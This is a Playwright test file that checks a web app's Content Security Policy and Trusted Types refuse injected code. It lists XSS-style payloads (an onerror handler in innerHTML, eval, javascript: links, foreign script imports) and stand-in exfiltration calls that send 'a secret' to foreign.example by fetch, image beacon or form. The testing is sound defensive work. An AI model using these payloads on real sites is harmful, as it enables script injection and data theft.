import type { Page } from '@playwright/test';
import { expect, signInByForm, test } from '../support/fixtures';
import { runInPage, SIDE_EFFECTS } from '../support/injected-code';

const INJECTED = 'window.injected = true';
const SINK = 'require-trusted-types-for trusted-types-sink';

/** Lists attempts of injected code, with the violation that the browser reports for each. */
const REFUSED_BY_BROWSER: readonly { attempt: string; code: string; violation: string }[] = [
  {
    attempt: 'markup from a text',
    code: `document.body.innerHTML = '<img src="x" onerror="${INJECTED}">'`,
    violation: `${SINK} Element innerHTML`,
  },
  {
    attempt: 'a document from a text',
    code: `new DOMParser().parseFromString('<script>${INJECTED}</script>', 'text/html')`,
    violation: `${SINK} DOMParser parseFromString`,
  },
  {
    attempt: 'an inline script',
    code: `document.head.append(Object.assign(document.createElement('script'), { textContent: '${INJECTED}' }))`,
    violation: `${SINK} HTMLScriptElement textContent`,
  },
  {
    attempt: 'an inline handler',
    code: `document.body.setAttribute('onclick', '${INJECTED}'); document.body.click()`,
    // The name of the sink depends on the version of Chromium.
    violation: `${SINK} Element (onclick|setAttribute)`,
  },
  { attempt: 'eval', code: `eval('${INJECTED}')`, violation: `${SINK} eval` },
  { attempt: 'a function from a text', code: `new Function('${INJECTED}')()`, violation: `${SINK} Function` },
  {
    attempt: 'a timer with a text',
    code: `setTimeout('${INJECTED}')`,
    violation: `${SINK} Window setTimeout`,
  },
  {
    attempt: 'a policy of its own',
    code: `trustedTypes.createPolicy('own', { createHTML: (html) => html })`,
    violation: 'trusted-types trusted-types-policy own',
  },
  {
    attempt: 'a script behind a link',
    code: `Object.assign(document.createElement('a'), { href: 'javascript:${INJECTED}' }).click()`,
    violation: 'script-src-elem inline',
  },
  {
    attempt: 'a foreign module',
    code: `import('https://foreign.example/injected.js')`,
    violation: 'script-src-elem https://foreign.example',
  },
  {
    attempt: 'a module of this machine',
    code: `import('http://localhost:4001/injected.js')`,
    violation: 'script-src-elem http://localhost:4001',
  },
  {
    attempt: 'a call to this machine',
    code: `fetch('http://localhost:4001/', { method: 'POST', body: 'a secret' })`,
    violation: 'connect-src http://localhost:4001',
  },
  {
    attempt: 'a call to a foreign origin',
    code: `fetch('https://foreign.example/', { method: 'POST', body: 'a secret' })`,
    violation: 'connect-src https://foreign.example',
  },
  {
    attempt: 'a foreign image',
    code: `new Image().src = 'https://foreign.example/?secret'`,
    violation: 'img-src https://foreign.example',
  },
  {
    attempt: 'an inline style',
    code: `document.head.append(Object.assign(document.createElement('style'), { textContent: '* { color: red }' }))`,
    violation: 'style-src-elem inline',
  },
  {
    attempt: 'a frame',
    code: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://foreign.example/' }))`,
    violation: 'frame-src https://foreign.example',
  },
  {
    attempt: 'a form sent away',
    code: `const form = document.createElement('form'); form.action = 'https://foreign.example/'; document.body.append(form); form.submit()`,
    violation: 'form-action https://foreign.example',
  },
  {
    attempt: 'another base for all addresses',
    code: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://foreign.example/' }))`,
    violation: 'base-uri https://foreign.example',
  },
];

/** Script URLs that the page's own policy refuses before the browser does. */
const REFUSED_BY_POLICY = [
  'https://foreign.example/injected.js',
  'http://localhost:4001/remoteEntry.js',
  `data:text/javascript,${INJECTED}`,
];

/** Signs in and waits for the first list. */
const open = async (page: Page): Promise<void> => {
  await signInByForm(page, 'staff');
  await expect(page.getByRole('table', { name: 'Sales reports' })).toBeVisible();
};

/** Returns whether injected code ran, and how many lists the page shows. */
const stateOf = (page: Page) =>
  page.evaluate(() => ({
    injected: 'injected' in window,
    tables: document.querySelectorAll('table').length,
  }));

test('the browser refuses every attempt of injected code', async ({ page, problems }) => {
  problems.expect(SIDE_EFFECTS);
  await open(page);
  for (const { attempt, code, violation } of REFUSED_BY_BROWSER) {
    await test.step(attempt, () => runInPage(page, problems, code, new RegExp(`^violation: ${violation}`)));
  }
  expect(await stateOf(page)).toEqual({ injected: false, tables: 1 });
});

test('the page runs no script of a foreign origin', async ({ page, problems }) => {
  await open(page);
  for (const url of REFUSED_BY_POLICY) {
    const code = `document.createElement('script').src = '${url}'`;
    const refusal = new RegExp(`^script: Scripts of ${new URL(url).origin} may not run in this page`);
    await test.step(url, () => runInPage(page, problems, code, refusal));
  }
  expect(await stateOf(page)).toEqual({ injected: false, tables: 1 });
});

test('an inline script in the document does not run', async ({ page, problems }) => {
  problems.expect(SIDE_EFFECTS, /^violation: script-src-elem inline/);
  await page.route('/', async (route) => {
    const answer = await fetch(route.request().url(), { headers: { 'accept-encoding': 'identity' } });
    const text = await answer.text();
    await route.fulfill({
      headers: Object.fromEntries(answer.headers),
      body: text.replace('<body>', `<body><script>${INJECTED}</script>`),
    });
  });
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
  expect(await stateOf(page)).toMatchObject({ injected: false });
});
